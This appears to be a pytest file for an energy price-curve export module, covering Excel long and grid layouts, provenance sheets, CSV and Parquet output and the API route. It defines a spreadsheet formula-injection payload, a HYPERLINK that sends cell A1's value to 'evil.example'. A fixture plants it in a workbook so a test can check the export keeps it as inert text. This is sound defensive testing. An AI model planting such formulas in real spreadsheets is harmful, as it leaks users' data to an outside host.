"""Exports of one as-of day: Excel laid out for people (long and grid), read back with openpyxl;
CSV and Parquet for programs; the route's ``layout``."""

from __future__ import annotations

import io
import re
import zipfile
from collections import defaultdict
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from openpyxl.utils import column_index_from_string, get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from aurum.api.app import create_app
from aurum.config import Settings
from aurum.errors import QueryError, Unknown
from aurum.ingest.days import day_history
from aurum.lake import Lake
from aurum.query.curves import COLUMNS, IDENTITY, CurveFilter, Curves
from aurum.query.exports import export_day, export_path
from aurum.query.replica import Replicas

DAY = date(2025, 10, 1)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
READ = [
    "asof_date", "vendor", *IDENTITY, "tenor_type", "tenor_label", "contract_month", "tenor_end",
    "bid", "ask", "mid", "currency", "per_unit",
]  # fmt: skip
KINDS = ["MONTHLY", "BALANCE", "QUARTER", "SEASON", "CALENDAR"]
HEADER_FILL = "FFDDEBF7"


def poisoned(path: Path, out: Path) -> Path:
    """The security review's edit: a gas hub's name on both twin sheets becomes a formula."""
    book = openpyxl.load_workbook(path)
    for name in ("Fixed Prices - Mid", "Fixed Prices - BidAsk"):
        cell = book[name]["D7"]
        assert cell.value == "Dutch_TTF"
        cell.value, cell.data_type = FORMULA, "s"
    out.parent.mkdir(parents=True, exist_ok=True)
    book.save(out)
    return out


@pytest.fixture(scope="module")
def settings(build_lake, synthetic_days, tmp_path_factory) -> Settings:
    """One EUGP day whose Dutch_TTF is a formula, and one PW day (ISO and market filled)."""
    (eugp,) = synthetic_days("EUGP", DAY, 1)
    bad = poisoned(eugp, tmp_path_factory.mktemp("formula") / eugp.name)
    return build_lake("exports", [bad, *synthetic_days("PW", DAY, 1)])


@pytest.fixture(scope="module")
def curves(settings: Settings) -> Curves:
    lake = Lake(settings)
    return Curves(lake, Replicas(lake, settings.home / "serving"))


@pytest.fixture(scope="module")
def lake_rows(curves: Curves) -> list[dict[str, Any]]:
    """Every row of the day as the API reads it, with the hashes the export must carry."""
    return curves.curves(CurveFilter(asof=DAY), columns=COLUMNS, limit=1_000_000).table.to_pylist()


@pytest.fixture(scope="module")
def exported(curves: Curves, tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("exported")
    files = {}
    for layout in ("long", "grid"):
        path, rows, _ = export_day(curves, DAY, out=out, fmt="xlsx", layout=layout)
        assert rows > 10_000
        files[layout] = path
    return files


@pytest.fixture(scope="module")
def books(exported: dict[str, Path]) -> dict[str, openpyxl.Workbook]:
    """The exported files as openpyxl reads them (read once: the tests only look)."""
    return {layout: openpyxl.load_workbook(path) for layout, path in exported.items()}


def header_of(sheet: Worksheet, rows: int = 1) -> list[list[Any]]:
    return [[c.value for c in row] for row in sheet.iter_rows(min_row=1, max_row=rows)]


def body(sheet: Worksheet, first_row: int) -> list[dict[str, Any]]:
    names = [c.value for c in sheet[first_row - 1]]
    return [
        dict(zip(names, row, strict=True))
        for row in sheet.iter_rows(min_row=first_row, values_only=True)
    ]


def day(value: Any) -> Any:
    return value.date() if isinstance(value, datetime) else value


def identity(row: dict[str, Any]) -> tuple[Any, ...]:
    return (row["vendor"], *(row.get(f) for f in IDENTITY), row["currency"], row["per_unit"])


def nulls_last(values: tuple[Any, ...]) -> tuple[Any, ...]:
    return tuple((v is None, v or "") for v in values)


def assert_styled(sheet: Worksheet, header_rows: int, frozen_columns: int) -> None:
    """Header bold and filled, panes frozen below it, a filter on its last row, every column
    with a width."""
    for row in sheet.iter_rows(min_row=1, max_row=header_rows):
        for cell in row:
            if cell.value is not None:
                assert cell.font.b, cell.coordinate
                assert cell.fill.fgColor.rgb == HEADER_FILL, cell.coordinate
    assert sheet.freeze_panes == f"{get_column_letter(frozen_columns + 1)}{header_rows + 1}"
    last = get_column_letter(sheet.max_column)
    assert sheet.auto_filter.ref == f"A{header_rows}:{last}{sheet.max_row}"
    for index in range(1, sheet.max_column + 1):
        width = sheet.column_dimensions[get_column_letter(index)].width
        assert 6 <= width <= 61, (index, width)


# -- long ---------------------------------------------------------------------------------------


def test_long_holds_what_a_person_reads_sorted_by_identity_and_tenor(books, lake_rows):
    book = books["long"]
    assert book.sheetnames == ["curve_observation", "provenance"]
    assert book.active.title == "curve_observation"
    sheet = book["curve_observation"]
    assert_styled(sheet, header_rows=1, frozen_columns=0)
    (names,) = header_of(sheet)
    assert names == READ  # PW fills iso and market: every identity field is in use
    assert not {"curve_key", "version_hash", "source_file", "value", "price_type"} & set(names)
    rows = body(sheet, 2)
    assert len(rows) == len(lake_rows)
    # the first column is a real date, prices are numbers
    assert sheet["A2"].is_date and sheet["A2"].number_format == "yyyy-mm-dd"
    assert {type(r["mid"]) for r in rows} == {float}
    # identity order: vendor, asset class, ... block; each curve's rows together
    keys = [nulls_last(identity(r)) for r in rows]
    assert keys == sorted(keys)
    assert keys[0][0] == (False, "EUGP") and keys[-1][0] == (False, "PW")
    # within a curve: months in delivery order, then strips by kind, each in delivery order
    tenors = defaultdict(list)
    for row in rows:
        tenors[identity(row)].append(
            (KINDS.index(row["tenor_type"]), day(row["contract_month"]), row["tenor_label"])
        )
    assert len(tenors) == len({identity(r) for r in lake_rows})
    for found in tenors.values():
        assert found == sorted(found)
    assert any(found[0][0] == 0 and found[-1][0] > 0 for found in tenors.values())
    # the same values as the lake, row for row
    mids = {(identity(r), r["tenor_label"]): (r["bid"], r["ask"], r["mid"]) for r in lake_rows}
    assert {(identity(r), r["tenor_label"]): (r["bid"], r["ask"], r["mid"]) for r in rows} == mids


def test_an_identity_field_empty_in_every_row_is_left_out(curves, tmp_path):
    path, _, _ = export_day(curves, DAY, out=tmp_path, fmt="xlsx", vendor="eugp")
    (names,) = header_of(openpyxl.load_workbook(path, read_only=True)["curve_observation"])
    assert "iso" not in names and "market" not in names  # EUGP has neither
    assert {"location", "product", "block", "spark_location"} <= set(names)


def test_provenance_keys_each_curve_to_its_cells_hashes_file_version_and_run(
    books, lake_rows, settings
):
    book = books["long"]
    data, provenance = book["curve_observation"], book["provenance"]
    assert_styled(provenance, header_rows=1, frozen_columns=0)
    entries = body(provenance, 2)
    (names,) = header_of(provenance)
    assert names[-9:] == [
        "rows", "sheet_name", "source_file", "version", "run_id", "curve_key", "version_hash",
        "source_sha256", "ingested_at_utc",
    ]  # fmt: skip
    by_key = defaultdict(list)
    for row in lake_rows:
        by_key[(row["curve_key"], row["version_hash"])].append(row)
    runs = {
        vendor: day_history(Lake(settings).table("curve_observation"), vendor, DAY)[-1]
        for vendor in ("EUGP", "PW")
    }
    rows = body(data, 2)
    assert len(entries) == len(by_key)  # one per curve and source sheet
    assert sum(e["rows"] for e in entries) == len(rows)
    for entry in entries:
        source = by_key[(entry["curve_key"], entry["version_hash"])]
        assert entry["rows"] == len(source)
        assert identity(entry) == identity(source[0])
        assert entry["source_file"] == source[0]["source_file"]
        assert entry["version"] == runs[entry["vendor"]].tag
        assert entry["run_id"] == runs[entry["vendor"]].run_id
        assert len(entry["source_sha256"]) == 64 and isinstance(entry["ingested_at_utc"], datetime)
        # the cells it names are its rows, and only its rows
        sheet, cells = entry["cells"].split("!")
        assert sheet == "curve_observation"
        first, last = (int(n) for n in re.findall(r"\d+", cells))
        named = rows[first - 2 : last - 1]
        assert len(named) == entry["rows"]
        assert {identity(r) for r in named} == {identity(entry)}
        assert {r["tenor_label"] for r in named} == {r["tenor_label"] for r in source}


def test_formula_like_text_stays_a_string(exported, books):
    for layout, path in exported.items():
        with zipfile.ZipFile(path) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert sheets
            for name in sheets:
                assert b"<f>" not in archive.read(name)
        book = books[layout]
        found = [c for s in book.worksheets for row in s.iter_rows() for c in row
                 if c.value == FORMULA]  # fmt: skip
        assert found and {c.data_type for c in found} == {"s"}


# -- grid ---------------------------------------------------------------------------------------


def test_grid_is_tenors_down_curves_across_with_the_long_forms_values(books):
    long = body(books["long"]["curve_observation"], 2)
    book = books["grid"]
    assert book.sheetnames == [f"EUGP {DAY}", f"PW {DAY}", "provenance"]
    for vendor in ("EUGP", "PW"):
        sheet = book[f"{vendor} {DAY}"]
        mine = [r for r in long if r["vendor"] == vendor]
        fields = [f for f in IDENTITY if any(r[f] is not None for r in mine)]
        top = len(fields) + 2  # identity rows, units, the column names
        assert_styled(sheet, header_rows=top, frozen_columns=1)
        header = header_of(sheet, top)
        assert [row[0] for row in header] == [*fields, "units", "tenor_label"]
        assert header[-1][:4] == ["tenor_label", "tenor_type", "contract_month", "tenor_end"]
        # a column per curve, in the long form's order, named by its identity
        curves = list(dict.fromkeys(identity(r) for r in mine))
        columns = [
            (vendor, *(dict(zip(fields, values, strict=True)).get(f) for f in IDENTITY),
             *header[-2][c].split("/"))
            for c, values in enumerate(zip(*(row for row in header[:-2]), strict=True))
            if c >= 4
        ]  # fmt: skip
        assert columns == curves
        assert "German power BASE" in header[-1] or vendor == "PW"
        # a row per tenor: months in delivery order, then strips by kind
        labels = [sheet.cell(r, 1).value for r in range(top + 1, sheet.max_row + 1)]
        kinds = [sheet.cell(r, 2).value for r in range(top + 1, sheet.max_row + 1)]
        assert len(labels) == len(set(labels)) == len({r["tenor_label"] for r in mine})
        assert [KINDS.index(k) for k in kinds] == sorted(KINDS.index(k) for k in kinds)
        months = [label for label, kind in zip(labels, kinds, strict=True) if kind == "MONTHLY"]
        assert months == sorted(months)
        # every cell is the long form's mid for that curve and tenor; no value is invented
        mids = {(identity(r), r["tenor_label"]): r["mid"] for r in mine}
        grid = {}
        for r, label in enumerate(labels, start=top + 1):
            for c, curve in enumerate(curves, start=5):
                value = sheet.cell(r, c).value
                if value is not None:
                    grid[(curve, label)] = value
        assert grid == {key: mid for key, mid in mids.items() if mid is not None}


def test_grid_provenance_names_each_curves_column(books):
    book = books["grid"]
    for entry in body(book["provenance"], 2):
        sheet_name, cells = entry["cells"].split("!")
        sheet = book[sheet_name.strip("'")]
        first, last = cells.split(":")
        column = column_index_from_string(re.match(r"[A-Z]+", first).group())
        assert column == column_index_from_string(re.match(r"[A-Z]+", last).group())
        rows = range(int(first[len(re.match(r"[A-Z]+", first).group()):]),
                     int(last[len(re.match(r"[A-Z]+", last).group()):]) + 1)  # fmt: skip
        header = [sheet.cell(r, column).value for r in range(1, sheet.max_row + 1)]
        assert entry["location"] in header  # the column is the curve's
        filled = [r for r in rows if sheet.cell(r, column).value is not None]
        assert len(filled) == entry["rows"]


# -- CSV, Parquet, refusals, the route -------------------------------------------------------


def test_csv_and_parquet_keep_every_column_in_the_apis_order(curves, lake_rows, tmp_path):
    path, rows, _ = export_day(curves, DAY, out=tmp_path, fmt="parquet")
    table = pq.read_table(path)
    assert table.column_names == list(COLUMNS) and rows == len(lake_rows)
    assert table.to_pylist() == lake_rows


def test_grid_is_an_excel_layout(curves, tmp_path):
    for fmt in ("csv", "parquet"):
        with pytest.raises(QueryError) as caught:
            export_day(curves, DAY, out=tmp_path, fmt=fmt, layout="grid")
        assert caught.value.code == "parameter_invalid" and "format=xlsx" in str(caught.value)
    with pytest.raises(QueryError, match="layout must be one of long, grid"):
        export_day(curves, DAY, out=tmp_path, fmt="xlsx", layout="wide")  # type: ignore[arg-type]
    with pytest.raises(Unknown):
        export_day(curves, date(1999, 1, 1), out=tmp_path, fmt="xlsx", layout="grid")
    assert not list(tmp_path.rglob("*.xlsx"))


def test_export_paths_name_the_layout(tmp_path):
    long = export_path(tmp_path, DAY, "eugp", "xlsx")
    grid = export_path(tmp_path, DAY, "eugp", "xlsx", layout="grid")
    assert (long.name, grid.name) == (
        "curve_observation_EUGP.xlsx",
        "curve_observation_EUGP_grid.xlsx",
    )
    assert long.parent == grid.parent


def test_progress_is_told_each_step(curves, tmp_path):
    steps: list[str] = []
    export_day(curves, DAY, out=tmp_path, fmt="xlsx", vendor="PW", layout="grid",
               progress=steps.append)  # fmt: skip
    assert steps[0] == f"reading PW as of {DAY}"
    assert re.fullmatch(r"writing [\d,]+ rows of PW as xlsx \(grid\)", steps[1])


def test_the_route_takes_a_layout(settings):
    with TestClient(create_app(settings)) as client:
        params = {"asof": DAY.isoformat(), "vendor": "PW", "format": "xlsx"}
        grid = client.get("/v1/exports/curve_observation", params={**params, "layout": "grid"})
        assert grid.status_code == 200, grid.text
        assert "curve_observation_PW_grid.xlsx" in grid.headers["content-disposition"]
        book = openpyxl.load_workbook(io.BytesIO(grid.content))
        assert book.sheetnames == [f"PW {DAY}", "provenance"]
        long = client.get("/v1/exports/curve_observation", params=params)
        assert openpyxl.load_workbook(io.BytesIO(long.content)).sheetnames == [
            "curve_observation", "provenance",
        ]  # fmt: skip
        refused = client.get(
            "/v1/exports/curve_observation",
            params={**params, "format": "csv", "layout": "grid"},
        )
        assert refused.status_code == 400 and refused.json()["code"] == "parameter_invalid"
        unknown = client.get("/v1/exports/curve_observation", params={**params, "layout": "wide"})
        assert unknown.status_code == 400
